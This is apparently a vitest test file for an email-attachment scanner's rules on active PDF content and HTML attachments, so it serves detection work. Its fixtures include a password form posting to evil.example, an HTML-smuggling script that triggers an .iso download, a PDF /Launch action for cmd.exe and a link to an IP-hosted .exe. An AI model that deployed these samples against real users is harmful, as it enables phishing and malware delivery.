import { describe, expect, it } from "vitest";
import { ATT_HTML, ATT_PDF_ACTIVE } from "../../../src/core/rules/attachments/index.js";
import { LINKS_RULES } from "../../../src/core/rules/links/index.js";
import { RULES } from "../../../src/core/rules/index.js";
import { makeSnapshot, runRules } from "../../helpers/build.js";
import * as f from "../../helpers/formats.js";
import { attachment, fire, values, withAttachments } from "./fixtures.js";

const text = (s: string): Uint8Array => new TextEncoder().encode(s);

describe("ATT_PDF_ACTIVE by content", () => {
  it.each([
    ["JavaScript run on opening", ["<< /OpenAction 2 0 R >>", "<< /S /JavaScript /JS (this.exportDataObject\\(\\)) >>"], "high"],
    ["a hex-escaped /J#61vaScript", ["<< /S /J#61vaScript /JS (x) >>"], "high"],
    ["/Launch", ["<< /S /Launch /F (cmd.exe) >>"], "high"],
    ["JavaScript without an automatic trigger", ["<< /AcroForm 2 0 R >>", "<< /JS (event.value = 1) >>"], "medium"],
    ["an embedded file", ["<< /Names << /EmbeddedFiles 2 0 R >> >>", "<< /Type /Filespec /UF (data.xml) >>"], "medium"],
    ["an embedded program", ["<< /Names << /EmbeddedFiles 2 0 R >> >>", "<< /Type /Filespec /F (scan.pdf.exe) >>"], "high"],
    ["an XFA form", ["<< /AcroForm << /XFA 2 0 R >> >>"], "low"],
  ])("fires on %s (%s)", (_what, objects, severity) => {
    expect(fire(ATT_PDF_ACTIVE, { name: "report.pdf", type: "application/pdf", bytes: f.pdf({ objects }) })?.severity).toBe(severity);
  });

  it("shows what it found", () => {
    const finding = fire(ATT_PDF_ACTIVE, { name: "a.pdf", bytes: f.pdf({ objects: ["<< /S /J#61vaScript /JS (x) >>"] }) });
    expect(values(finding)).toEqual(expect.arrayContaining(["/JavaScript", "/J#61vaScript", "/JS"]));
  });

  it.each([
    ["a PDF with only /URI links", ["<< /Type /Catalog >>", "<< /A << /S /URI /URI (https://www.example.jp/) >> >>"]],
    ["a form with an opening view", ["<< /Type /Catalog /OpenAction [3 0 R /Fit] /AcroForm 2 0 R >>"]],
    ["a plain PDF", ["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [] /Count 0 >>"]],
  ])("stays quiet on %s", (_what, objects) => {
    expect(fire(ATT_PDF_ACTIVE, { name: "a.pdf", bytes: f.pdf({ objects }) })).toBeUndefined();
  });

  it("checks a PDF by content under any name, and nothing that only claims to be one", () => {
    expect(fire(ATT_PDF_ACTIVE, { name: "scan", type: "application/octet-stream", bytes: f.pdf({ objects: ["<< /S /Launch >>"] }) })?.severity).toBe("high");
    expect(fire(ATT_PDF_ACTIVE, { name: "a.pdf", bytes: text("not a pdf /JavaScript") })).toBeUndefined();
  });
});

describe("PDF link targets go to the link rules", () => {
  const pdfWith = (uri: string): Uint8Array => f.pdf({ objects: [`<< /A << /S /URI /URI (${uri}) >> >>`] });

  it("a PDF linking to a bare IP address or a program download is reported by the link rules, marked as from the attachment", () => {
    const analysis = runRules(
      makeSnapshot({ subject: "s", text: "See the attached file.", attachments: [attachment({ name: "請求書.pdf", bytes: pdfWith("http://203.0.113.9/invoice.exe") })] }),
      LINKS_RULES,
    );
    expect(analysis.findings.map((x) => x.id).sort()).toEqual(["LINK_IP_LITERAL", "LINK_TO_FILE"]);
    const link = analysis.links.find((l) => l.source === "attachment");
    expect(link).toMatchObject({ element: "pdf", href: "http://203.0.113.9/invoice.exe", attachment: { index: 0, name: "請求書.pdf" } });
  });

  it("does not treat PDF links as hidden body links (the person sees no link text to compare)", () => {
    const analysis = runRules(
      makeSnapshot({ subject: "s", html: "<p>hello</p>", attachments: [attachment({ name: "a.pdf", bytes: pdfWith("https://phish.example/login") })] }),
      RULES,
    );
    expect(analysis.findings.map((x) => x.id)).not.toContain("LINK_HIDDEN_TARGET");
    expect(analysis.findings.map((x) => x.id)).not.toContain("LINK_TEXT_MISMATCH");
  });
});

describe("ATT_HTML by content", () => {
  it("fires on a page with no telling name, and shows what it is", () => {
    const finding = fire(ATT_HTML, { name: "document", bytes: text("<html><body><p>Your fax</p></body></html>") });
    expect(finding?.severity).toBe("medium");
    expect(values(finding)).toContain("HTML page");
  });

  it("is high for a local sign-in page (a password form) and for HTML smuggling", () => {
    const phishing = '<html><form action="https://evil.example/post.php"><input type="password" name="pw"></form></html>';
    expect(fire(ATT_HTML, { name: "Fax.html", type: "text/html", bytes: text(phishing) })?.severity).toBe("high");
    expect(values(fire(ATT_HTML, { name: "Fax.html", bytes: text(phishing) }))).toContain("https://evil.example/post.php");
    const smuggling = '<html><script>let b=new Blob([atob("TVo=")]);let a=document.createElement("a");a.href=URL.createObjectURL(b);a.download="x.iso";a.click()</script></html>';
    expect(fire(ATT_HTML, { name: "invoice.htm", bytes: text(smuggling) })?.severity).toBe("high");
    // Even under a mailer's name ("ATT00001.htm", normally low).
    expect(fire(ATT_HTML, { name: "ATT00001.htm", type: "text/html", bytes: text(phishing) })?.severity).toBe("high");
  });

  it("keeps a mailer's body piece low when it is an ordinary page", () => {
    expect(fire(ATT_HTML, { name: "ATT00001.htm", type: "text/html", bytes: text("<html><body>disclaimer</body></html>") })?.severity).toBe("low");
  });

  it("stays quiet on text that is not a page", () => {
    expect(fire(ATT_HTML, { name: "notes", bytes: text("Meeting at 10, bring the <b> tag list.") })).toBeUndefined();
  });

  it("whole-catalogue run on a credential page attached with no name", () => {
    const analysis = withAttachments(RULES.filter((r) => r.group === "attachments"), { name: null, bytes: text('<form><input type="password"></form>') });
    expect(analysis.findings.map((x) => [x.id, x.severity])).toEqual([["ATT_HTML", "high"]]);
  });
});
